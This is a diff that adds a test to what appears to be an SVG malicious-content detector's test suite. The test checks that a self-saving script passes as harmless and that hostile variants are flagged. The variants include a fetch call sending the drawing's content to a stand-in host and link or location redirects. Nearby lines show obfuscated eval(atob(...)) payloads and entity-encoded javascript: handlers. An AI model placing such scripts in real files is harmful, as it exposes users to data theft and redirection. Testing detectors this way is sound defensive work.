@@ -573,6 +573,24 @@ suite('a drawing', () => {
     has(graph(`<foreignObject><script/>eval(atob("${btoa('go()')}"))</script></foreignObject>`), 'Svg.Redirect')
     has(graph(`<script src=pan.js/>eval(atob("${btoa('go()')}"))</script>`), 'Svg.Redirect')
   })
+  test('with a script that saves the drawing itself is harmless', () => {
+    const save = (content: string, more = ''): Uint8Array =>
+      svg(
+        `<script>function save(){var s=new XMLSerializer().serializeToString(document.documentElement);var a=document.createElementNS("http://www.w3.org/1999/xhtml","a");a.href=URL.createObjectURL(new Blob([${content}],{type:"image/svg+xml"}));a.download="plan.svg";a.click()${more}}</script><text onclick="save()">Save</text>`,
+      )
+    harmless(save('s'))
+    harmless(save('s', ';a.remove()'))
+    harmless(save('s', ';document.getElementById("t").textContent="Saved"'))
+    harmless(save('s', ';URL.revokeObjectURL(a.href)'))
+    for (const [content, more] of [
+      ['data', ''],
+      ['s', ';a.href="https://kit.example/"'],
+      ['s,data', ''],
+      ['s', ';fetch("https://kit.example/",{body:s})'],
+      ['s', ';location=a.href'],
+    ] as const)
+      has(save(content, more), 'Svg.Script')
+  })
   test('with letters of a handler as references', () => {
     has(svg('<rect onclick="&#111;pen(1)"/>'), 'Svg.Redirect')
     has(svg('<a href="java&#x73;cript:open(1)"/>'), 'Svg.Redirect')
